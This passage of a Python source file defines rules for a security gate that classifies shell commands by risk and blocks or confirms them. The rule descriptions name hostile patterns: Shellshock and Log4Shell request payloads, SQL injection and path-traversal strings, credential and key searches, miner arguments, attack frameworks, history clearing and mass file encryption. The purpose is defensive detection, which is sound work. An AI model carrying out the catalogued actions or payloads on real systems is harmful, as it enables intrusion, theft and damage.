          "A package index, registry, apt source, software-update catalogue or git URL rewrite set to a bare "
          "public IP address (gate/rules/shell_sources.py): every later install or fetch runs what it serves. A "
          "named mirror, localhost or the private network is ordinary configuration."),
    _make("block.shell.miner", "mines cryptocurrency", Risk.CRITICAL,
          "A cryptocurrency miner, known by its pool address (stratum+tcp://, well-known pools) or its tuning "
          "arguments (--donate-level, --algo rx/0): this machine's power spent for someone else."),
    _make("confirm.shell.attack-tool-download", "fetches a tool made for attacks", Risk.HIGH,
          "A download or clone whose address names an attack tool or kit: a credential dumper, a domain "
          "attack-path collector, a phishing reverse proxy (Evilginx, Modlishka, Gophish), a command-and-control "
          "framework (Sliver, Havoc, Empire) or a tunnelling agent (Chisel, Ligolo). Fetching one is the first "
          "step of using it on this machine or the network; security work does it too, so it asks."),
    _make("confirm.shell.staged-download", "saves a download where payloads hide", Risk.HIGH,
          "A download saved into a system program directory, /dev/shm, /var/tmp or a hidden name, or fetched "
          "from a bare IP address: the first half of a download that is started later."),
    _make("confirm.shell.unknown-program", "unknown program or effect", Risk.MEDIUM,
          "A program resources/programs.toml does not describe, or a flag whose value is code the gate does not "
          "model (vim -c, gdb -ex, tar --checkpoint-action, awk system(), sed e, git -c core.pager): the gate "
          "cannot tell what it does (`[shell] unknown_programs`; a policy allow rule can let it through). A use "
          "known to change nothing does not ask (gate/nochange.py): a read-only verb or no-change mode listed "
          "in programs.toml `[[no_change]]` (`knife node list`, `puppet agent --noop`, salt `test=True`), "
          "`--help`/`--version`, or a lone `--dry-run` with no code, destination, run-time value or file "
          "written beside it."),
    _make("confirm.shell.shell-spawn", "starts an interactive shell", Risk.HIGH,
          "A shell with no script, no -c and no input (`ionice /bin/sh`, `vim -c ':sh'`, `rsync -e 'sh'`): "
          "a way out of whatever wrapped it; what it will run is unknown."),
    _make("confirm.shell.recon", "looks for ways to gain privileges", Risk.MEDIUM,
          "Searches for setuid/setgid or world-writable files (find -perm -4000) and for programs with "
          "capabilities (getcap -r): the first step of a privilege escalation; domain-mapping and privilege-hunting "
          "kits (ADRecon, SharpHound, linpeas), directory listings of Active Directory, packet capture."),
    _make("confirm.shell.credential-search", "searches for credentials", Risk.HIGH,
          "Recursive searches for passwords, secrets, API keys or private keys (grep -r password, rg "
          "'BEGIN.*PRIVATE'), and searches for key or credential files (find -name id_rsa, locate .pem)."),
    _make("confirm.shell.cloud-remote-exec", "runs code on cloud machines", Risk.HIGH,
          "A script run on cloud machines through the control plane (aws ssm send-command, az vm run-command "
          "invoke, az vm extension set with a custom script, gcloud compute ssh --command), a cloud function's code "
          "replaced (aws lambda update-function-code), an access key made for the signed-in user: what runs there "
          "is out of this gate's sight."),
    _make("confirm.shell.remote-mutation", "changes something on another machine", Risk.MEDIUM,
          "HTTP DELETE/PUT/PATCH to a remote host (curl -X DELETE, http PUT), cloud CLI verbs that create, "
          "change or grant (aws iam create-access-key, gcloud ... add-iam-policy-binding), gh pr merge / "
          "repo edit / api -X DELETE; a container engine on another machine (docker -H tcp://..., DOCKER_HOST)."),
    _make("confirm.shell.desktop-input", "drives the desktop behind deskgate's back", Risk.HIGH,
          "xdotool / ydotool / wtype keystrokes and clicks, xte: input that does not pass through deskgate's "
          "GUI rules."),
    _make("confirm.shell.system-state", "changes the running system", Risk.HIGH,
          "Loading or removing kernel modules, kernel parameters (sysctl -w, /proc/sys writes), mounts and "
          "remounts, swap, immutable/ACL attributes on system files."),
    _make("confirm.shell.privilege-escalation", "runs as administrator", Risk.HIGH,
          "sudo, doas, pkexec, su, runas; setuid bits, setcap, account and password changes, containers with "
          "host-level access (--privileged, / mounted)."),
    _make("confirm.shell.destructive", "destructive command", Risk.HIGH,
          "Recursive or wildcard deletes outside regenerable directories, deletes of unknown ($VAR) targets, "
          "find -delete, shred, deleting infrastructure (kubectl delete, terraform destroy, docker prune) "
          "and database rows, redis keys deleted or expired, documents deleted (deleteMany), a row's role, admin "
          "flag or password changed; any write (even UPDATE ... WHERE) to a database whose host, name or "
          "connection string says it is production's (prod, production, live); a SQL script or dump the gate "
          "cannot read fed to a database server (`gunzip -c dump.gz | psql`, `mysql db < x.sql`, `psql -f`), and "
          "a dump restored into a database (pg_restore -d, mongorestore)."),
    _make("confirm.shell.vcs-destructive", "destructive version-control command", Risk.MEDIUM,
          "git push --force / +refspec / --delete (--force-with-lease to a shared branch: main, master, "
          "release/...), reset --hard, clean -f, checkout --force / -- paths, "
          "restore, switch --discard-changes, branch -D, stash drop/clear, prune, filter-branch."),
    _make("confirm.shell.system-disruption", "system disruption", Risk.HIGH,
          "shutdown, reboot, halt, poweroff, init 0/6, stopping or restarting services, killing processes; "
          "resource exhaustion: a loop with no end (or a six-figure count) that makes a file, folder or link each "
          "turn, an endless stream written into a file (yes > f, cat /dev/zero > f, dd with no count), "
          "interpreter code that grows memory or makes files without end."),
    _make("confirm.shell.secret-read", "reads a secret", Risk.HIGH,
          "Reading keys, credentials, .env files, browser profiles, keychains or shell history "
          "(`[shell] secret_paths`, `history`, security find-generic-password, gpg --export-secret-keys)."),
    _make("confirm.shell.persistence", "makes something run later", Risk.MEDIUM,
          "crontab edits, systemctl enable, launchctl load, scheduled tasks, Run keys, writes to shell startup "
          "files, autostart, systemd units or cron directories (`[shell] persistence_paths`: also D-Bus service "
          "and polkit rule folders, emond rules, startup items, folder-action scripts, editor and REPL autoload "
          "folders; macOS Quick Look, Spotlight, authorization, audio and preference-pane plug-ins, periodic "
          "and .local scripts, at jobs, ssh's rc, network hooks); osascript folder actions and login items; "
          "Terminal's CommandString."),
    _make("confirm.shell.defense-evasion", "switches a defence off or hides tracks", Risk.HIGH,
          "Clearing or switching off one's shell history (history -c, unset HISTFILE, HISTSIZE=0), Windows "
          "living-off-the-land binaries (certutil -urlcache, ...). Switching a defence off blocks."),
    _make("confirm.shell.system-write", "writes a system file", Risk.HIGH,
          "Writing or changing permissions/ownership of files under /etc or other system paths, appending "
          "to system logs."),
    _make("confirm.shell.insecure-permissions", "world-writable permissions", Risk.MEDIUM,
          "chmod 777 / o+w on a file or directory outside the system paths."),
    _make("confirm.shell.install", "installs or removes software", Risk.MEDIUM,
          "Installing named packages (pip, npm, apt, brew, cargo install, go install, ...) the gate does not "
          "know; higher risk for a name that imitates a widely used one or says it is malicious, and from a "
          "URL, git, a file, a non-default index or a package source nobody keeps; removing system packages. "
          "Widely used packages from the default registry (resources/packages.toml, `[shell] "
          "known_packages_allowed`), taking a project dependency out again and the project's own dependencies "
          "(npm ci, pip install -r requirements.txt) do not ask. Upgrading every installed package at once "
          "(`winget upgrade --all`, `choco upgrade all`, a bare `brew upgrade`) asks, as do: overriding the system's "
          "own packages (`pip install --break-system-packages`, `dpkg --force-overwrite`), `python setup.py "
          "install|develop` and source builds (`pip download --no-binary :all: X`), an installer script run by a "
          "shell (high when variables point it at another repository or branch), installing a pull request just "
          "checked out (`gh pr checkout 12 && npm install`), a toolchain removing itself or a runtime version "
          "(`rustup self uninstall`, `pyenv uninstall 3.11`, `brew uninstall --zap`), and a privileged command "
          "handed to a wrapper script (`./retry.sh sudo apt-get install x`), judged as typed."),
    _make("block.shell.compromised-package", "installs a release an attacker published", Risk.CRITICAL,
          "Installing a package version that public incident reports name as poisoned (a maintainer's account or "
          "release pipeline taken over: axios 1.14.1, the nx and chalk releases of 2025, ua-parser-js 0.7.29) or "
          "a package made to steal (resources/packages.toml `[compromised]`), with any manager of its ecosystem, "
          "npx included. The same package without that version pinned is judged as any other install. Dependency "
          "confusion's shape blocks too: a company's own-looking name the gate does not know (an internal word, an "
          "unknown npm scope) at a version no real release carries (`99.99.99`; `[confusion]`)."),
    _make("confirm.shell.publish", "publishes or deploys", Risk.MEDIUM,
          "npm publish, twine upload, cargo publish, docker push, kubectl apply, terraform apply, helm install, "
          "make deploy and similar: changes that leave this machine; an image pushed by a build or copy verb "
          "(docker buildx build/bake --push, buildah push, skopeo copy to docker://)."),
    _make("confirm.shell.network", "network or firewall change, upload or listener", Risk.MEDIUM,
          "Firewall rule changes (iptables -F, nft flush, ufw deny), taking interfaces/routes down, sending "
          "output to /dev/tcp, uploading a local file (curl -d @file, -F f=@file, -T file), opening a "
          "listening socket (nc -l, socat TCP-LISTEN), a database dump piped to another machine (a bare address "
          "or drop site blocks), a request to a Tor hidden service or through Tor's proxy port."),
    _make("confirm.shell.indirect-exec", "runs code the gate cannot see", Risk.HIGH,
          "Output of another program piped into a shell, eval/bash -c of a run-time value, a script run right "
          "after it was downloaded, interpreters run by find -exec / xargs on found files."),
    _make("confirm.shell.install-script", "a project's published install script piped into a shell", Risk.HIGH,
          "The install script a project publishes on its own site and tells people to run (`curl -fsSL "
          "https://sh.rustup.rs | sh`, `irm https://astral.sh/uv/install.ps1 | iex`; packages.toml "
          "`[install_scripts]`, https only) piped into a shell: the person decides whether that software is "
          "installed. Any other script piped into a shell blocks (`block.shell.remote-code-exec`)."),
    _make("confirm.shell.obfuscated", "obfuscated command", Risk.HIGH,
          "De-obfuscation was needed to see what runs: $'\\x..' escapes, quotes inside a command name, $IFS as "
          "a separator, a variable or substitution as the command, base64/hex decoded into a shell, paths "
          "that climb out with '..'."),
    _make("confirm.shell.policy-pattern", "policy confirm pattern", Risk.MEDIUM,
          "A simple command matches one of the policy's `[shell] confirm_patterns`."),
    _make("confirm.shell.complex", "too complex to review", Risk.MEDIUM,
          "More simple commands than `[shell] max_commands`, or wrappers nested too deep to follow. Plain pipes "
          "and chains are not asked about (they only stop policy allow rules).", types=("shell",)),
    _make("confirm.shell.secret-stored", "a secret kept in the clear", Risk.HIGH,
          "A literal token or password handed to a tool's config or login verb (npm/pnpm/yarn config set of an "
          "auth token, pip config set of a user:password index URL, git credential.helper store, docker login "
          "-p): it is written into a plain-text config file and the shell history. A ${VAR} reference, a "
          "keychain helper or --password-stdin passes."),
    _make("block.shell.exploit-payload", "a request that carries an exploit to a host", Risk.CRITICAL,
          "An HTTP client (curl, wget, httpie, xh, Invoke-WebRequest) whose header, user agent, cookie, body or URL "
          "carries an exploit that takes over or reads the server: a bash function definition followed by a "
          "command (Shellshock, `() { :; }; ...`), a JNDI lookup (Log4Shell, `${jndi:ldap://...}`), a path "
          "climbing to the server's system or secret files, a request for the cloud's instance credentials. Sent "
          "to this machine's own service it asks (testing one's own application)."),
    _make("confirm.shell.attack-probe", "a request that attacks a web application", Risk.HIGH,
          "An HTTP client (curl, wget, httpie, xh) whose URL or body carries an attack: injected SQL "
          "(' OR '1'='1, UNION SELECT, sleep()), a path that climbs to system files (../../etc/passwd), a shell "
          "command after a separator, or a script tag. Probing a web application is only for one's own."),
    _make("block.shell.shared-history-rewrite", "rewrites a shared branch's history", Risk.CRITICAL,
          "git push --force, -f or a +refspec to a branch others build on (main, master, trunk, develop, "
          "production, release/...) or to a release's version tag (v1.4.2): the history everyone fetched and the "
          "released code are replaced on the remote. A force-push of one's own feature branch, or with "
          "--force-with-lease, asks (confirm.shell.vcs-destructive)."),
    _make("block.shell.mass-overwrite", "rewrites every file of a system tree", Risk.CRITICAL,
          "An in-place editor, emptier, mover or encrypter (sed -i, perl -pi, truncate, cp /dev/null, mv, gpg -c, "
          "openssl enc; chmod/chown are block.shell.insecure-permissions-root) run by find -exec or xargs on what a "
          "search of /, a system tree or a home finds, or by a recursive grep's list of files there, or a for loop "
          "over such a tree that writes, edits or encrypts each file: every match is rewritten at once with no "
          "copy kept. Narrowed to one folder below a system tree it asks (confirm.shell.system-write)."),
    _make("confirm.shell.unparsable", "does not parse", Risk.HIGH,
          "The command has shell syntax errors: what it runs cannot be known for sure.", types=("shell",),
          confidence=0.5),    *(_make(*r) for r in shell_ransom.RULE_DOCS),
    *(_make(*r) for r in code_capture.RULE_DOCS),
    *(_make(*r) for r in shell_sabotage.RULE_DOCS),
)
